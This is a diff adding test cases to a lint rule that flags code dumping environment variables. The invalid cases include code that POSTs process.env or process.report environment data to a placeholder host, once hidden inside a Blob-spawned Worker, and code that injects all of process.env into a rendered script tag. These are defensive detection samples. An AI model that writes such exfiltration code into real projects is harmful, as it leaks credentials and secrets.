@@ -111,6 +111,8 @@ await ruleTester(rule, {
     { code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      TOKEN: ${{ secrets.NPM_TOKEN }}\n    steps:\n      - run: npm publish\n', filename: '.github/workflows/a.yml' },
     { code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(github.event) }}"\n', filename: '.github/workflows/a.yml' },
     { code: '{ "name": "a", "scripts": { "start": "env NODE_ENV=test node x.js" } }', filename: 'package.json' },
+    { code: 'const report = process.report?.getReport(); export const isMusl = !report.header.glibcVersionRuntime;' },
+    { code: 'export default function Root({ env }) { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify({ mode: process.env.NODE_ENV })}` }} />; }', filename: 'file.jsx' },
   ],
   invalid: [
     // programs in data: URLs, descriptors, traps of a proxy
@@ -246,5 +248,9 @@ await ruleTester(rule, {
     { code: 'import tracer from "dd-trace"; tracer.init({ tags: process.env });', errors: [{ messageId: 'dump' }] },
     { code: 'import OpenAI from "openai"; await new OpenAI().chat.completions.create({ model: "m", messages: [{ role: "user", content: JSON.stringify(process.env) }] });', errors: [{ messageId: 'dump' }] },
     { code: 'module.exports = { env: { ...process.env }, output: "standalone" };', filename: "next.config.js", errors: [{ messageId: 'dump' }] },
+    { code: 'console.log(process.report.getReport());', errors: [{ messageId: 'dump' }] },
+    { code: `const r = process.report.getReport(); fetch('https://x.example.org', { method: 'POST', body: JSON.stringify(r.environmentVariables) });`, errors: [{ messageId: 'dump' }] },
+    { code: "const blob = new Blob([`fetch('https://x.example.org', { method: 'POST', body: JSON.stringify(process.env) })`]); new Worker(URL.createObjectURL(blob));", errors: [{ messageId: 'dump' }] },
+    { code: "export default function Root() { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify(process.env)}` }} />; }", filename: 'file.jsx', errors: [{ messageId: 'dump' }] },
   ],
 });
